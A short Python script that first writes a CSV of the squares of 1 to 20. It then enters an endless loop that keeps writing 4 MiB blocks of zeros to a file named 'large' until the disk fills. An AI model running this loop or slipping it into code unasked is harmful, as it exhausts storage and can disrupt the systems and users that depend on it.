with open("squares.csv", "w") as file:
    file.write("n,square\n" + "".join(f"{n},{n * n}\n" for n in range(1, 21)))
with open("large", "wb") as file:
    while True:
        file.write(bytes(1 << 22))
